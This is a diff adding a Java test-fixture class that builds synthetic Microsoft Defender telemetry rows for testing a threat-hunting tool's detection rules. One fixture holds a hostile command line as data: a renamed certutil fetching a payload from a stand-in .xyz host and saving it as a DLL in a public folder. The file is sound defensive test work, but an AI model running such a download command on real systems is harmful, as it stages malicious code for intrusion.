@@ -1,0 +1,71 @@
+package dev.bazahunt.job.replay;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.bazahunt.telemetry.DefenderTimestamps;
+import java.time.Instant;
+
+/** Flat Advanced Hunting rows for tests, shaped like real Defender exports. */
+final class TestRows {
+    private static final ObjectMapper JSON = new ObjectMapper();
+    static final String DEVICE = "c3d5e7f9a1b2c3d4e5f60718293a4b5c6d7e8f90";
+
+    private TestRows() {}
+
+    static String nanos(Instant instant) {
+        return DefenderTimestamps.format(instant.getEpochSecond() * 1_000_000_000L + instant.getNano());
+    }
+
+    /** A renamed certutil (pid 7212) writing a payload, matched by the faithful rule. */
+    static ObjectNode download(String device, Instant at, long reportId) {
+        ObjectNode row = common(device, at, reportId, "DeviceFileEvents");
+        row.put("ActionType", "FileCreated");
+        row.put("FileName", "tmp1834.dll");
+        row.put("FolderPath", "C:\\Users\\Public\\x8k2\\tmp1834.dll");
+        row.put("InitiatingProcessFileName", "x8k2.exe");
+        row.put("InitiatingProcessFolderPath", "c:\\users\\public\\x8k2\\x8k2.exe");
+        row.put("InitiatingProcessCommandLine",
+                "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
+        row.put("InitiatingProcessId", 7212);
+        row.put("InitiatingProcessCreationTime", nanos(at.minusMillis(120)));
+        row.put("InitiatingProcessParentFileName", "cmd.exe");
+        row.put("InitiatingProcessParentId", 6640);
+        row.put("InitiatingProcessParentCreationTime", nanos(at.minusMillis(600)));
+        return row;
+    }
+
+    /** A process that Excel (pid 5120) spawned. */
+    static ObjectNode excelChild(String device, Instant at, long reportId, long processId, String fileName, String commandLine) {
+        ObjectNode row = common(device, at, reportId, "DeviceProcessEvents");
+        row.put("ActionType", "ProcessCreated");
+        row.put("FileName", fileName);
+        row.put("FolderPath", "C:\\Windows\\System32\\" + fileName);
+        row.put("ProcessId", processId);
+        row.put("ProcessCreationTime", nanos(at.minusMillis(2)));
+        row.put("ProcessCommandLine", commandLine);
+        row.put("InitiatingProcessFileName", "EXCEL.EXE");
+        row.put("InitiatingProcessId", 5120);
+        row.put("InitiatingProcessCreationTime", "2021-07-20T13:59:50.2500000Z");
+        return row;
+    }
+
+    private static ObjectNode common(String device, Instant at, long reportId, String table) {
+        ObjectNode row = JSON.createObjectNode();
+        row.put("Type", table);
+        row.put("Timestamp", nanos(at));
+        row.put("DeviceId", device);
+        row.put("DeviceName", "wks-0911.contoso.local");
+        row.put("ReportId", reportId);
+        row.put("InitiatingProcessAccountDomain", "contoso");
+        row.put("InitiatingProcessAccountName", "m.ortiz");
+        return row;
+    }
+
+    static String line(ObjectNode row) {
+        try {
+            return JSON.writeValueAsString(row);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+}
